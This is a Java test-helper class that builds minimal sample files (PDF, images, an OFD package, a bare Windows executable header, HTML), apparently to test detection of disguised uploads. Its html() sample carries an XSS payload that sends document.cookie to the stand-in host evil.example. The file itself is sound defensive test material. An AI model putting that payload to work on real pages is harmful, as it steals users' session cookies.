package cn.zwy.cases.material;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

/** Real minimal files of each kind, made the way their producers make them, and disguised ones. */
final class Samples {

    private Samples() {}

    static byte[] pdf() {
        return """
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
                2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
                3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj
                trailer << /Root 1 0 R >>
                %%EOF
                """.getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] png() {
        return image("png");
    }

    static byte[] jpeg() {
        return image("jpeg");
    }

    private static byte[] image(String format) {
        BufferedImage img = new BufferedImage(2, 2, BufferedImage.TYPE_INT_RGB);
        img.setRGB(0, 0, 0xCC0000);
        var out = new ByteArrayOutputStream();
        try {
            if (!ImageIO.write(img, format, out)) throw new IllegalStateException("no ImageIO writer for " + format);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static final String OFD_XML = """
            <?xml version="1.0" encoding="UTF-8"?>
            <ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD">
              <ofd:DocBody>
                <ofd:DocInfo><ofd:DocID>6a5c1f4e9d2b4c7f8e3a1b2c3d4e5f60</ofd:DocID></ofd:DocInfo>
                <ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot>
              </ofd:DocBody>
            </ofd:OFD>
            """;

    /** An OFD package (GB/T 33190): OFD.xml at the root, the document under Doc_0. */
    static byte[] ofd() {
        return zip(Map.of("OFD.xml", OFD_XML,
                "Doc_0/Document.xml", """
                        <?xml version="1.0" encoding="UTF-8"?>
                        <ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:CommonData><ofd:MaxUnitID>1</ofd:MaxUnitID>
                        <ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData>
                        <ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>
                        """,
                "Doc_0/Pages/Page_0/Content.xml", "<ofd:Page xmlns:ofd=\"http://www.ofdspec.org/2016\"/>"));
    }

    static byte[] zip(Map<String, String> entries) {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var e : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** The start of a Windows executable (DOS header "MZ", PE offset, the DOS stub's message). */
    static byte[] exe() {
        byte[] b = new byte[512];
        b[0] = 'M';
        b[1] = 'Z';
        b[0x3C] = (byte) 0x80;
        byte[] stub = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, b, 0x4E, stub.length);
        b[0x80] = 'P';
        b[0x81] = 'E';
        return b;
    }

    static byte[] html() {
        return "<!DOCTYPE html><html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>"
                .getBytes(StandardCharsets.UTF_8);
    }
}
